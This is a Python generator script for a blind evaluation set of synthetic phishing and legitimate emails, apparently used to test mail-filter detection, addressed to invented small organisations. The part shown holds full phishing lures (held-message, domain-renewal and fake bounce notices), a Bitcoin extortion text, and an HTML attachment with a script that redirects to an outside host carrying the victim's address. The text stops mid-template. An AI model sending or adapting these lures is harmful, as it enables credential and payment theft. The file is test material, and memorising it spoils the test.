#!/usr/bin/env python3
"""Blind evaluation set 21: small domains on shared hosting, regional ISPs and self-run servers.

Who receives these messages (all invented organisations, 2024-2026):

- Hanna Voss, a security researcher in Berlin, runs her own Postfix + rspamd
  server for her vanity domain hvoss.net (Roundcube webmail, domain at OVH).
- The Pemberton family's domain pemberton-family.co.uk on Namecheap cPanel
  shared hosting (Exim on server312.web-hosting.com).
- The Department of Linguistics of Westmere University, which still runs its
  own departmental mail server (mail.ling.westmere.ac.uk, Roundcube), while
  the university's OneDrive/SharePoint lives in Microsoft 365.
- Ashcombe Town Council (ashcombe-tc.gov.uk), mail hosted at IONOS.
- Riverbend Food Co-operative (riverbendfood.coop), mail at Hostinger.
- Brannigan & Shah LLP, a small law office (branniganshah.com) on Zimbra run
  by the regional ISP Tri-County Net.
- The TinkerDB open-source project (tinkerdb.org), its own Postfix + rspamd
  server on a rented VPS.

Attacks (50) are mostly the "your mailbox / your domain" kind: quota full,
held messages, password expiry, Roundcube/Zimbra/cPanel upgrades, domain
expiry and SSL/DNS notices in the name of registrars and hosts, fake DMARC
reports, voicemail and e-fax notices, shared-document lures, remittance HTML
files with the recipient pre-filled, MFA re-registration by QR code, BEC,
wire-instruction changes, advance-fee and a handful of malware droppers
(macro document, JS and LNK in archives, ISO, an EXE "proof of concept",
a GitHub comment pointing at a password-protected archive). Delivery goes
through compromised mailboxes, lookalike domains, spoofs of the recipient's
own domain, freemail, and genuine services (PayPal, Dropbox, DocuSign,
SharePoint, GitHub, Google Forms, Canva, SendGrid). Landing pages sit on
compromised WordPress sites, IPFS gateways, Cloudflare r2/pages/workers,
Firebase and behind Google AMP / google.com/url redirects.

Legitimate messages (25) are deliberately close to the lures: real Let's
Encrypt expiry mail, real DMARC aggregate reports, real cPanel quota warnings
from the hosting server, genuine registrar/host renewal notices, genuine
SharePoint/Drive/DocuSign shares, a real phone-system voicemail, a real
eFax, an ISP maintenance notice, an internal "Roundcube upgrade" notice,
mailing lists, invoices and personal mail.

Run from the repository root:
    .venv/bin/python samples/tools/build_blind21_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import io
import math
import struct
import sys
import wave
import zlib
from datetime import datetime, timedelta
from email import policy
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = HERE.parents[1]
OUT = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind21_manifest.txt"
SET = 21

# --------------------------------------------------------------------------
# Deterministic tokens, encodings and boundaries
# --------------------------------------------------------------------------

ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
UPNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
B64CH = ALNUM + "+/"
URLCH = ALNUM + "-_"
HEX = "0123456789abcdef"
DIGITS = "0123456789"


def tok(seed: str, n: int, alphabet: str = ALNUM) -> str:
    """``n`` characters from ``alphabet``, derived from ``seed`` (stable across runs)."""
    out: list[str] = []
    counter = 0
    while len(out) < n:
        digest = hashlib.sha256(f"b{SET}/{seed}/{counter}".encode()).digest()
        counter += 1
        out.extend(alphabet[b % len(alphabet)] for b in digest)
    return "".join(out[:n])


def b64(value: str) -> str:
    return base64.b64encode(value.encode()).decode()


def enc(value: str) -> str:
    """RFC 2047 UTF-8 B-encoding for non-ASCII header text, split into short encoded words."""
    if value.isascii():
        return value
    words, chunk = [], ""
    for ch in value:
        if len((chunk + ch).encode()) > 42:
            words.append(chunk)
            chunk = ""
        chunk += ch
    words.append(chunk)
    return "\n ".join(f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words)


def addr(name: str, email: str) -> str:
    if not name:
        return email
    if not name.isascii():
        return f"{enc(name)} <{email}>"
    if any(c in name for c in ',.;:@()[]<>"\\'):
        return f'"{name}" <{email}>'
    return f"{name} <{email}>"


def gmail_b(seed: str) -> str:
    return "000000000000" + tok(seed, 16, HEX)


def outlook_b(seed: str) -> str:
    return f"_000_{tok(seed, 36, UPNUM)}namp_"


def php_b(seed: str) -> str:
    return "b1=_" + tok(seed, 42, ALNUM)


def java_b(seed: str) -> str:
    return f"----=_Part_{tok(seed, 6, DIGITS)}_{tok(seed + 'm', 9, DIGITS)}.{tok(seed + 't', 13, DIGITS)}"


def next_b(seed: str) -> str:
    return f"----=_NextPart_000_{tok(seed, 4, HEX).upper()}_01DB{tok(seed + 'x', 4, HEX).upper()}.{tok(seed + 'y', 8, HEX).upper()}"


def alt(boundary: str, plain: str, html: str) -> Multi:
    return Multi("alternative", boundary, [text(plain), text(html, "html")])


def mixed(boundary: str, *parts) -> Multi:
    return Multi("mixed", boundary, list(parts))


def html_only(html: str) -> Leaf:
    return text(html, "html")


def plain(body: str) -> Leaf:
    return text(body)


# --------------------------------------------------------------------------
# Receiving sites
# --------------------------------------------------------------------------

SITES = {
    "hvoss": dict(mx="mx.hvoss.net", style="postfix", tz="Europe/Berlin"),
    "pemb": dict(mx="server312.web-hosting.com", style="exim", tz="America/New_York"),
    "westmere": dict(mx="mail.ling.westmere.ac.uk", style="postfix", tz="Europe/London"),
    "ashcombe": dict(mx="mx00.ionos.co.uk", style="ionos", tz="Europe/Berlin"),
    "riverbend": dict(mx="mx1.hostinger.com", style="postfix", tz="UTC"),
    "brannigan": dict(mx="zmta1.tricountynet.net", style="postfix", tz="America/Chicago"),
    "tinker": dict(mx="mail.tinkerdb.org", style="postfix", tz="UTC"),
}

HANNA = "hanna@hvoss.net"
CLAIRE = "claire@pemberton-family.co.uk"
DAVE = "dave@pemberton-family.co.uk"
RUTH = "r.okafor@ling.westmere.ac.uk"
LINGOFFICE = "ling-office@ling.westmere.ac.uk"
CLERK = "clerk@ashcombe-tc.gov.uk"
FINANCE = "finance@ashcombe-tc.gov.uk"
COOPINFO = "info@riverbendfood.coop"
COOPACC = "accounts@riverbendfood.coop"
PATRICK = "pbrannigan@branniganshah.com"
NADIA = "nshah@branniganshah.com"
RECEPTION = "reception@branniganshah.com"
SECURITY = "security@tinkerdb.org"
JONAS = "jonas@tinkerdb.org"


def stamp(when: datetime) -> str:
    return format_datetime(when)


def mx_received(m: dict, when: datetime) -> str:
    site = SITES[m["site"]]
    mx, ip, helo, rdns, rcpt = site["mx"], m["ip"], m["helo"], m.get("rdns"), m["rcpt"]
    qid = tok(m["slug"] + "qid", 12, "BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789")
    date = stamp(when)
    if site["style"] == "exim":
        origin = rdns or f"[{ip}]"
        port = 30000 + int(tok(m["slug"] + "port", 4, DIGITS))
        exim_id = f"1t{tok(m['slug'] + 'ex', 4, ALNUM)}-00{tok(m['slug'] + 'ey', 4, ALNUM)}-{tok(m['slug'] + 'ez', 2, ALNUM)}"
        return (f"Received: from {origin} ([{ip}]:{port} helo={helo})\n\tby {mx} with esmtps  (TLS1.3) tls "
                f"TLS_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from <{m['mailfrom']}>)\n\tid {exim_id}\n"
                f"\tfor {rcpt};\n\t{date}")
    if site["style"] == "ionos":
        nid = f"1M{tok(m['slug'] + 'n1', 8, ALNUM)}-1t{tok(m['slug'] + 'n2', 8, ALNUM)}"
        return (f"Received: from {helo} ([{ip}]) by {mx}\n\t(mxeue{tok(m['slug'] + 'mx', 3, DIGITS)} [212.227.15.41]) "
                f"with ESMTPS (Nemesis) id {nid}\n\tfor <{rcpt}>; {date}")
    if rdns is None:
        origin = f"{helo} (unknown [{ip}])"
    elif rdns == helo:
        origin = f"{rdns} ({rdns} [{ip}])"
    else:
        origin = f"{helo} ({rdns} [{ip}])"
    return (f"Received: from {origin}\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
            f"\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
            f"\t(No client certificate requested)\n\tby {mx} (Postfix) with ESMTPS id {qid}\n\tfor <{rcpt}>; {date}")


SPF_TEXT = {
    "pass": "domain of {mf} designates {ip} as permitted sender",
    "fail": "domain of {mf} does not designate {ip} as permitted sender",
    "softfail": "domain of transitioning {mf} does not designate {ip} as permitted sender",
    "neutral": "{ip} is neither permitted nor denied by domain of {mf}",
    "none": "domain of {mf} has no SPF policy when checking {ip}",
}


def auth_results(m: dict) -> str:
    serv = SITES[m["site"]]["mx"]
    lines = []
    for domain, selector, result in m.get("dkim", []):
        note = " (signature verification failed)" if result == "fail" else ""
        lines.append(f"dkim={result}{note} header.d={domain} header.s={selector} "
                     f"header.b={tok(m['slug'] + domain, 8, B64CH)}")
    if not m.get("dkim"):
        lines.append("dkim=none (message not signed)")
    spf = m["spf"]
    why = SPF_TEXT[spf].format(mf=m["mailfrom"] or "postmaster@" + m["helo"], ip=m["ip"])
    lines.append(f"spf={spf} ({serv}: {why}) smtp.mailfrom={m['mailfrom'] or m['helo']}")
    result, pol = m["dmarc"]
    from_domain = m["from"][1].rsplit("@", 1)[1]
    lines.append(f"dmarc={result} (policy={pol}) header.from={from_domain}" if pol else
                 f"dmarc={result} header.from={from_domain}")
    return f"Authentication-Results: {serv};\n\t" + ";\n\t".join(lines)


def dkim_signature(m: dict, domain: str, selector: str, when: datetime) -> str:
    seed = m["slug"] + "sig" + domain
    bh = base64.b64encode(hashlib.sha256(seed.encode()).digest()).decode()
    raw = b"".join(hashlib.sha512(f"{seed}{i}".encode()).digest() for i in range(4))
    sig = base64.b64encode(raw).decode()
    folded = "\n\t ".join(sig[i:i + 70] for i in range(0, len(sig), 70))
    heads = m.get("signed", "from:to:subject:date:message-id:mime-version:content-type")
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain};\n\ts={selector}; "
            f"t={int(when.timestamp())}; h={heads};\n\tbh={bh};\n\tb={folded}")


def build(m: dict) -> bytes:
    dt = datetime.strptime(m["date"], "%Y-%m-%d %H:%M:%S %z")
    hops = m.get("hops", [])
    delay = len(hops) + 2 + int(tok(m["slug"] + "delay", 2, DIGITS)) % 40
    received_at = (dt + timedelta(seconds=delay)).astimezone(ZoneInfo(SITES[m["site"]]["tz"]))
    lines = [f"Return-Path: <{m['mailfrom']}>"]
    if SITES[m["site"]]["style"] == "postfix":
        lines.append(f"Delivered-To: {m['rcpt']}")
    lines.append(m["mx_line"].replace("%RDATE%", stamp(received_at)) if "mx_line" in m else mx_received(m, received_at))
    lines.append(auth_results(m))
    for index, hop in enumerate(hops):
        lines.append(hop.replace("%DATE%", stamp(dt + timedelta(seconds=len(hops) - index))))
    for domain, selector, result in m.get("dkim", []):
        if result != "none":
            lines.append(dkim_signature(m, domain, selector, dt))
    lines.append("From: " + addr(*m["from"]))
    lines.append("To: " + m["to"])
    if m.get("cc"):
        lines.append("Cc: " + m["cc"])
    lines.append("Subject: " + enc(m["subject"]))
    lines.append("Date: " + stamp(dt))
    lines.append("Message-ID: " + m["msgid"])
    lines.extend(m.get("extra", []))
    return message("\n".join(lines), m["body"])


# Sender-side Received hops (placeholders %DATE% are filled by build()).

def gmail_hop(host: str, rcpt: str, seed: str) -> str:
    return (f"Received: by {host} with SMTP id {tok(seed, 10, 'abcdefghijklmnopqrstuvwxyz0123456789')}"
            f"-{tok(seed + 'g', 6, HEX)}.{tok(seed + 'h', 1, DIGITS)}\n\tfor <{rcpt}>; %DATE%")


def outlook_hop(host: str, seed: str) -> str:
    return (f"Received: from {host} ([fe80::{tok(seed, 4, HEX)}:{tok(seed + 'b', 4, HEX)}]) by {host}\n"
            f"\t([fe80::{tok(seed, 4, HEX)}:{tok(seed + 'b', 4, HEX)}%7]) with mapi id 15.20.{tok(seed + 'v', 4, DIGITS)}.013;"
            f" %DATE%")


def local_hop(client: str, client_ip: str, server: str, seed: str, proto: str = "ESMTPSA") -> str:
    return (f"Received: from {client} ({client} [{client_ip}])\n\tby {server} (Postfix) with {proto} id "
            f"{tok(seed, 11, 'BCDFGHJKLMNPQRSTVWXYZ0123456789')}; %DATE%")


def php_hop(server: str, user: str, seed: str) -> str:
    return (f"Received: from {user} by {server} with local (Exim 4.96.2)\n\t(envelope-from <{user}@{server}>)\n"
            f"\tid 1t{tok(seed, 4, ALNUM)}-00{tok(seed + 'y', 4, ALNUM)}-{tok(seed + 'z', 2, ALNUM)}; %DATE%")


# --------------------------------------------------------------------------
# HTML helpers
# --------------------------------------------------------------------------

def page(inner: str, bg: str = "#f3f3f3", font: str = "Segoe UI,Helvetica,Arial,sans-serif") -> str:
    return ('<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="viewport" content="width=device-width, initial-scale=1"></head>\n'
            f'<body style="margin:0;padding:0;background:{bg};font-family:{font};">\n{inner}\n</body></html>\n')


def button(label: str, url: str, color: str) -> str:
    return (f'<table role="presentation" cellpadding="0" cellspacing="0" border="0" style="margin:18px 0;"><tr>'
            f'<td style="background:{color};border-radius:4px;"><a href="{url}" target="_blank" '
            f'style="display:inline-block;padding:12px 28px;font-size:15px;color:#ffffff;text-decoration:none;'
            f'font-weight:bold;">{label}</a></td></tr></table>')


def card(brand: str, title: str, paras: list[str], label: str | None = None, url: str | None = None,
         foot: str = "", color: str = "#0b5cad", after: list[str] | None = None) -> str:
    body = "".join(f'<p style="margin:0 0 14px 0;font-size:14px;line-height:21px;color:#333333;">{p}</p>\n'
                   for p in paras)
    if label:
        body += button(label, url, color) + "\n"
    body += "".join(f'<p style="margin:0 0 12px 0;font-size:13px;line-height:19px;color:#555555;">{p}</p>\n'
                    for p in after or [])
    return page(
        '<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center" style="padding:24px 8px;">\n'
        '<table width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;border:1px solid #e0e0e0;">\n'
        f'<tr><td style="background:{color};padding:16px 24px;color:#ffffff;font-size:20px;font-weight:bold;">{brand}</td></tr>\n'
        f'<tr><td style="padding:26px 24px 10px 24px;"><h2 style="margin:0 0 16px 0;font-size:20px;color:#222222;'
        f'font-weight:600;">{title}</h2>\n{body}</td></tr>\n'
        f'<tr><td style="padding:14px 24px;font-size:11px;line-height:16px;color:#8a8a8a;border-top:1px solid #eeeeee;">'
        f'{foot}</td></tr>\n</table></td></tr></table>')


def gmail_html(paras: list[str]) -> str:
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paras)
    return f'<div dir="ltr">{inner}</div>\n'


def outlook_html(paras: list[str]) -> str:
    inner = "".join(f'<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Calibri, '
                    f'Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">{p or "<br>"}</div>\n'
                    for p in paras)
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n'
            f'</head>\n<body dir="ltr">\n{inner}</body>\n</html>\n')


def T(template: str, **values: str) -> str:
    """Fill ``{{name}}`` slots (for HTML/JS/CSS, whose braces would fight str.format)."""
    for key, value in values.items():
        template = template.replace("{{" + key + "}}", value)
    return template


# --------------------------------------------------------------------------
# Attachment builders
# --------------------------------------------------------------------------

def qr_pdf(lines: list[str], url: str, title: str) -> bytes:
    """A one-page PDF with text lines and a QR code image of ``url`` (no link annotation)."""
    import segno

    rows = list(segno.make(url, error="m").matrix_iter(scale=5, border=4))
    pixels = b"".join(bytes(0 if cell else 255 for cell in row) for row in rows)
    width, height = len(rows[0]), len(rows)
    content = ["BT", "/F1 12 Tf", "16 TL", "60 780 Td"]
    content += [f"({files._pdf_escape(line)}) Tj T*" for line in lines]
    content += ["ET", "q 190 0 0 190 202 330 cm /Im1 Do Q"]
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, zlib.compress(pixels, 9), width, height, "FlateDecode")
    objects.append(f"<< /Title ({files._pdf_escape(title)}) /Producer (iLovePDF) "
                   f"/CreationDate (D:20250114081200+00'00') >>".encode())
    return files.pdf_file(objects, len(objects))


def wav_tone(seconds: float, seed: int) -> bytes:
    """A short 8 kHz mono WAV (a wobbling tone), the shape of a voicemail recording."""
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        frames = bytearray()
        for i in range(int(8000 * seconds)):
            level = 0.5 + 0.5 * math.sin(i / (700 + seed * 13))
            frames += struct.pack("<h", int(2600 * level * math.sin(2 * math.pi * (180 + seed) * i / 8000)))
        out.writeframes(bytes(frames))
    return buffer.getvalue()


def dmarc_xml(reporter: str, email: str, report_id: str, begin: int, domain: str, policy_p: str,
              records: list[tuple[str, int, str, str, str, str]]) -> bytes:
    """An RFC 7489 aggregate report; records are (source_ip, count, disposition, dkim, spf, header_from)."""
    rows = []
    for ip, count, disposition, dkim, spf, header_from in records:
        rows.append(f"""  <record>
    <row>
      <source_ip>{ip}</source_ip>
      <count>{count}</count>
      <policy_evaluated>
        <disposition>{disposition}</disposition>
        <dkim>{dkim}</dkim>
        <spf>{spf}</spf>
      </policy_evaluated>
    </row>
    <identifiers>
      <header_from>{header_from}</header_from>
    </identifiers>
    <auth_results>
      <dkim>
        <domain>{header_from}</domain>
        <result>{dkim}</result>
        <selector>mail</selector>
      </dkim>
      <spf>
        <domain>{header_from}</domain>
        <result>{spf}</result>
      </spf>
    </auth_results>
  </record>""")
    return (f"""<?xml version="1.0" encoding="UTF-8" ?>
<feedback>
  <report_metadata>
    <org_name>{reporter}</org_name>
    <email>{email}</email>
    <report_id>{report_id}</report_id>
    <date_range>
      <begin>{begin}</begin>
      <end>{begin + 86399}</end>
    </date_range>
  </report_metadata>
  <policy_published>
    <domain>{domain}</domain>
    <adkim>r</adkim>
    <aspf>r</aspf>
    <p>{policy_p}</p>
    <sp>{policy_p}</sp>
    <pct>100</pct>
    <np>{policy_p}</np>
  </policy_published>
""" + "\n".join(rows) + "\n</feedback>\n").encode()


def ics(uid: str, organizer: tuple[str, str], attendee: str, summary: str, start: str, end: str,
        location: str, description: str, stamp_utc: str) -> bytes:
    desc = description.replace("\n", "\\n").replace(",", "\\,")
    lines = [
        "BEGIN:VCALENDAR", "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN", "VERSION:2.0",
        "METHOD:REQUEST", "BEGIN:VEVENT",
        f"ORGANIZER;CN={organizer[0]}:mailto:{organizer[1]}",
        f"ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={attendee}:mailto:{attendee}",
        f"DESCRIPTION;LANGUAGE=en-GB:{desc}", f"UID:{uid}", f"SUMMARY;LANGUAGE=en-GB:{summary}",
        f"DTSTART;TZID=GMT Standard Time:{start}", f"DTEND;TZID=GMT Standard Time:{end}",
        f"DTSTAMP:{stamp_utc}", f"LOCATION;LANGUAGE=en-GB:{location}", "SEQUENCE:1", "STATUS:CONFIRMED",
        "TRANSP:OPAQUE", "BEGIN:VALARM", "ACTION:DISPLAY", "DESCRIPTION:REMINDER", "TRIGGER;RELATED=START:-PT15M",
        "END:VALARM", "END:VEVENT", "END:VCALENDAR",
    ]
    folded = []
    for line in lines:
        while len(line) > 74:
            folded.append(line[:74])
            line = " " + line[74:]
        folded.append(line)
    return ("\r\n".join(folded) + "\r\n").encode()


def pct_escape(html: str) -> str:
    return "".join(f"%{b:02X}" for b in html.encode())


MESSAGES: list[dict] = []


def add(**m) -> None:
    m["from"] = m.pop("from_")
    MESSAGES.append(m)


# ==========================================================================
# ATTACKS - Hanna Voss, hvoss.net (self-hosted Postfix + Roundcube)
# ==========================================================================

_held_url = "https://brightwaterkennels.com/wp-content/plugins/wp-fastest-cache/tmp/hv/index.php#" + b64(HANNA)
_held = [("Re: CFP decision - submission #231", "papers@offensivecon-review.org", "10 Feb 2025 22:14"),
         ("Invoice 2025-0193 (Hetzner Online)", "billing@hetzner.com", "10 Feb 2025 19:02"),
         ("Coordinated disclosure - vendor reply", "psirt@", "10 Feb 2025 16:47"),
         ("Your ticket #48213 has been updated", "support@", "10 Feb 2025 11:30"),
         ("Fwd: signed NDA", "legal@", "09 Feb 2025 18:05")]
_rows = "".join(
    f'<tr><td style="padding:8px;border-bottom:1px solid #eee;font-size:13px;">{s}</td>'
    f'<td style="padding:8px;border-bottom:1px solid #eee;font-size:13px;color:#666;">{f}</td>'
    f'<td style="padding:8px;border-bottom:1px solid #eee;font-size:12px;color:#666;">{d}</td>'
    f'<td style="padding:8px;border-bottom:1px solid #eee;"><a href="{_held_url}" style="color:#1a73e8;">Release</a></td></tr>'
    for s, f, d in _held)
add(slug="held-messages-compromised-dental", cat="phishing", kind="phish", site="hvoss", rcpt=HANNA,
    desc="Compromised Google Workspace mailbox of a US dental practice, display name 'hvoss.net Postmaster', claims 5 "
         "messages are held and links every 'Release' to a kit on a hacked WordPress site with the address base64 in the fragment.",
    date="2025-02-11 06:42:17 -0600", from_=("hvoss.net Postmaster", "info@lakesidedentalcare.com"), to=HANNA,
    subject="[hvoss.net] 5 incoming messages for hanna@hvoss.net are on hold",
    mailfrom="info@lakesidedentalcare.com", ip="209.85.219.178", rdns="mail-yb1-f178.google.com",
    helo="mail-yb1-f178.google.com", spf="pass", dkim=[("lakesidedentalcare.com", "google", "pass")],
    dmarc=("pass", "none"), msgid=f"<CAK{tok('a1m', 40, URLCH)}@mail.gmail.com>",
    hops=[gmail_hop("2002:a05:7010:4e8a:b0:5e1:19c2:7a31", HANNA, "a1h")],
    body=alt(gmail_b("a1"),
             "hvoss.net Mail Server\n\nHello hanna,\n\nYou have 5 incoming messages on hold due to a system delay "
             "on the hvoss.net mail server. Release them to your inbox below:\n\n"
             + "\n".join(f"- {s} ({d})" for s, _f, d in _held) + f"\n\nRelease all messages: {_held_url}\n\n"
             "Messages not released within 48 hours will be deleted automatically.\n\nhvoss.net Mail Administrator\n",
             card("hvoss.net Mail Server", "Pending incoming messages",
                  ["Hello <b>hanna</b>,", "You have <b>5 incoming messages</b> on hold due to a system delay on "
                   "the <b>hvoss.net</b> mail server. Review and release them to your inbox below."],
                  after=[f'<table width="100%" cellpadding="0" cellspacing="0" style="border:1px solid #eee;">{_rows}</table>',
                         "Messages not released within 48 hours will be deleted automatically."],
                  label="Release All Messages", url=_held_url, color="#1a73e8",
                  foot="This message was sent to hanna@hvoss.net by the hvoss.net mail system. "
                       "&copy; 2025 hvoss.net Mail Administrator.")))

_ovh_url = "https://manager-ovhcloud-eu.pages.dev/renew/?domain=hvoss.net&ref=RNW-" + tok("a2r", 6, DIGITS)
add(slug="ovh-domain-expiry-spoof-pages", cat="phishing", kind="phish", site="hvoss", rcpt=HANNA,
    desc="Direct spoof of ovh.com from a Vultr VPS (SPF fail, DMARC fail) saying hvoss.net expires in 3 days and "
         "sends her to a card-harvesting 'OVHcloud Manager' renewal page on Cloudflare Pages.",
    date="2025-03-04 09:11:40 +0000", from_=("OVHcloud", "noreply@ovh.com"), to=HANNA,
    subject="Your domain hvoss.net expires in 3 days - renewal failed",
    mailfrom="noreply@ovh.com", ip="45.137.21.88", rdns="45.137.21.88.vultrusercontent.com", helo="mail.ovh-support.eu",
    spf="fail", dkim=[], dmarc=("fail", "quarantine"), msgid=f"<{tok('a2m', 24, HEX)}@ovh.com>",
    extra=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
    body=html_only(card(
        "OVHcloud", "Automatic renewal of hvoss.net could not be completed",
        ["Dear customer,", "We were unable to debit the payment method linked to your account for the renewal of "
         "your domain name <b>hvoss.net</b>. Your domain expires on <b>07/03/2025</b>.",
         "After this date the domain and all associated services (DNS zone, e-mail redirections, MX records) "
         "will be suspended and the domain may become available for registration by third parties.",
         "To avoid any interruption, please renew your domain now (9.99 EUR excl. VAT, 1 year)."],
        label="Renew hvoss.net", url=_ovh_url, color="#000e9c",
        foot="OVH SAS - 2 rue Kellermann - 59100 Roubaix - France. This is an automatic e-mail, please do not reply.")))

_dmarc_target = "https://dmarc-viewer.grey-sunset-7a21.workers.dev/report/hvoss.net"
_dmarc_html = T("""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>DMARC Aggregate Report - hvoss.net</title></head>
<body style="font-family:Arial;background:#fafafa">
<p style="text-align:center;margin-top:120px;color:#555">Loading DMARC report viewer, please wait...</p>
<script>
var _e = "{{email}}";
var _u = atob("{{url}}");
setTimeout(function () { window.location.replace(_u + "#" + btoa(_e)); }, 600);
</script>
</body></html>
""", email=HANNA, url=b64(_dmarc_target))
add(slug="dmarc-failure-html-redirect-workers", cat="phishing", kind="phish", site="hvoss", rcpt=HANNA,
    desc="Lookalike 'DMARC Watch' monitoring service (own SPF/DKIM pass) warns hvoss.net fails alignment; the attached "
         "HTML report decodes a workers.dev URL with atob and redirects with her address base64 in the fragment.",
    date="2025-02-18 14:26:03 +0000", from_=("DMARC Watch", "alerts@dmarcwatch-alerts.com"), to=HANNA,
    subject="DMARC failure detected for hvoss.net - 312 messages rejected in the last 24h",
    mailfrom="bounce-8812@mail.dmarcwatch-alerts.com", ip="194.87.31.140", rdns="mail.dmarcwatch-alerts.com",
    helo="mail.dmarcwatch-alerts.com", spf="pass", dkim=[("dmarcwatch-alerts.com", "dw1", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('a3m', 20, HEX)}.{tok('a3n', 8, DIGITS)}@dmarcwatch-alerts.com>",
    body=mixed(php_b("a3"),
               alt(php_b("a3a"),
                   "DMARC Watch - Daily alert\n\nDomain: hvoss.net\nPolicy published: p=reject\n"
                   "Messages failing SPF/DKIM alignment (24h): 312\nTop failing source: 185.220.101.47 (unknown)\n\n"
                   "Legitimate mail from hvoss.net is being rejected by Gmail, Outlook and Yahoo. The full aggregate "
                   "report is attached. Open it in your browser to review the failing sources.\n\n-- DMARC Watch\n",
                   card("DMARC Watch", "Alignment failures for hvoss.net",
                        ["Domain: <b>hvoss.net</b> &nbsp; Policy: <b>p=reject</b>",
                         "In the last 24 hours <b>312 messages</b> claiming to be from hvoss.net failed SPF/DKIM "
                         "alignment and were <b>rejected</b> by Gmail, Outlook and Yahoo.",
                         "The full aggregate report is attached (DMARC_Report_hvoss.net.html). Open it in your "
                         "browser to review the failing sources and authorise your legitimate senders."],
                        color="#2b4c7e", foot="DMARC Watch &middot; unsubscribe from alerts in your dashboard")),
               attachment("text/html", "DMARC_Report_hvoss.net_2025-02-18.html", _dmarc_html.encode())))

_amp = "https://www.google.com/amp/s/steelcityroofingpros.com/.well-known/pki-validation/amp/index.html%23" + HANNA
add(slug="undelivered-mail-google-amp", cat="phishing", kind="phish", site="hvoss", rcpt=HANNA,
    desc="Fake 'Mail Delivery Subsystem' bounce from a throwaway .xyz domain claiming 4 messages to her were not "
         "delivered; 'Retry delivery' goes through a Google AMP URL to a kit on a hacked roofing site.",
    date="2025-05-20 03:18:55 +0000", from_=("Mail Delivery Subsystem", "mailer-daemon@relay-notice.xyz"), to=HANNA,
    subject="Delivery Status Notification: 4 messages to hanna@hvoss.net were not delivered",
    mailfrom="mailer-daemon@relay-notice.xyz", ip="103.151.226.19", rdns=None, helo="relay-notice.xyz",
    spf="pass", dkim=[], dmarc=("none", None), msgid=f"<{tok('a4m', 32, HEX)}@relay-notice.xyz>",
    body=html_only(page(
        '<div style="max-width:620px;margin:20px auto;background:#fff;padding:24px;border:1px solid #ddd;font-size:14px;color:#202124;">'
        '<p style="font-size:18px;"><b>Message not delivered</b></p>'
        '<p>There was a problem delivering <b>4 incoming messages</b> to <b>hanna@hvoss.net</b>. The messages '
        'were returned to the queue after the recipient server hvoss.net returned a temporary error.</p>'
        '<p style="font-family:monospace;font-size:12px;color:#5f6368;">451 4.3.0 Mailbox hanna@hvoss.net '
        'temporarily unavailable (quota sync error) - retry scheduled</p>'
        f'<p><a href="{_amp}" style="background:#1a73e8;color:#fff;padding:10px 22px;text-decoration:none;'
        'border-radius:4px;">Retry Delivery</a></p>'
        '<p style="color:#5f6368;font-size:12px;">If no action is taken the messages will be discarded on '
        '22 May 2025.</p></div>', bg="#ffffff", font="Roboto,Arial,sans-serif")))

_btc = "bc1q" + tok("a5btc", 38, "023456789acdefghjklmnpqrstuvwxyz")
add(slug="extortion-own-address-spoof", cat="phishing", kind="phish", site="hvoss", rcpt=HANNA,
    desc="Extortion mail spoofing her own address as sender (SPF fail, DMARC fail for hvoss.net), claiming her device "
         "and domain were hacked and demanding $1450 in Bitcoin; no link.",
    date="2025-06-02 17:44:09 -0300", from_=("", HANNA), to=HANNA,
    subject="Your account hvoss.net has been hacked! Change your password immediately!",
    mailfrom=HANNA, ip="177.38.214.63", rdns="177-38-214-63.netcorp.com.br", helo="[177.38.214.63]",
    spf="fail", dkim=[], dmarc=("fail", "reject"), msgid=f"<{tok('a5m', 14, DIGITS)}.{tok('a5n', 8, HEX)}@hvoss.net>",
    body=plain(
        "Hello!\n\nI am a hacker who has access to your operating system.\nI also have full access to your "
        "account hvoss.net.\nAs you can see, I sent you this email from your own address.\n\n"
        "I have been watching you for a few months now. Your devices were infected with malware through a "
        "website you visited, and I have collected your contacts, your mail and recordings from your camera.\n\n"
        "If you want me to delete all of this, transfer $1450 in Bitcoin to my wallet:\n\n"
        f"{_btc}\n\nAfter receiving the payment I will delete everything and you will never hear from me again. "
        "You have 48 hours from the moment you opened this email. I get a notification when you read it.\n\n"
        "Do not reply - this address is yours, not mine. Do not go to the police; I will know.\n"))

_vm_url = ("https://pub-" + tok("a6r2", 32, HEX) + ".r2.dev/vm/play.html")
_svg = T("""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
